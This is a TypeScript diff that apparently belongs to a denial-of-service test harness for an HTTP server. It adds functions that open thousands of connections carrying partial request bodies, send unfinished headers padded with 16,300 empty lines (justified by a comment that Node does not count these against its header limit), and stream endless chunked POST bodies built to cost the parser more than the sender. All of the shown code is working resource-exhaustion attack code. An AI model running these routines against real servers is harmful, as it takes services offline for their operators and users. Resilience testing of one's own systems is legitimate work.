@@ -91,15 +91,37 @@ export function bodiesInSliversOfAnApp(target: Target): Promise<Outcomes> {
 }
 
 /** The same on connections that are opened first and then send all at once what one read brings. */
-export async function bodiesAtOnce(target: Target): Promise<Outcomes> {
+export const bodiesAtOnce = (target: Target): Promise<Outcomes> =>
+  atOnce(target, slivers(CREATE, NO_CREDENTIALS).slice(0, 64 * 1024));
+
+/** Unfinished heads, of which there is no request yet: Node counts neither colons nor ends of lines against its limit. */
+export const headsAtOnce = (target: Target): Promise<Outcomes> =>
+  atOnce(target, `GET /livez HTTP/1.1\r\nHost: x\r\n${'a:\r\n'.repeat(16_300)}`);
+
+async function atOnce(target: Target, request: string): Promise<Outcomes> {
   const all = new AttackConnections(target);
-  const request = slivers(CREATE, NO_CREDENTIALS).slice(0, 64 * 1024);
   while (all.isRunning) {
     const connections = await all.connectMany(1_900);
     for (const connection of connections) void connection.ask(request);
     await pause(300);
     for (const connection of connections) connection.end();
   }
+  return all.end();
+}
+
+/** Bodies without an end, in chunks that cost the parser more than their sender. */
+export async function endlessBodies(target: Target): Promise<Outcomes> {
+  const all = new AttackConnections(target);
+  const chunks = `50\r\n${'x'.repeat(80)}\r\n`.repeat(800);
+  await all.repeat(20, async () => {
+    const connection = await all.connect();
+    if (connection === undefined) return pause(20);
+    connection.expectAnswer();
+    await connection.send(head('POST', CREATE, { 'Transfer-Encoding': 'chunked' }));
+    while (connection.isOpen && all.isRunning)
+      await Promise.race([connection.send(chunks), pause(1_000, undefined, { ref: false })]);
+    connection.end();
+  });
   return all.end();
 }
 
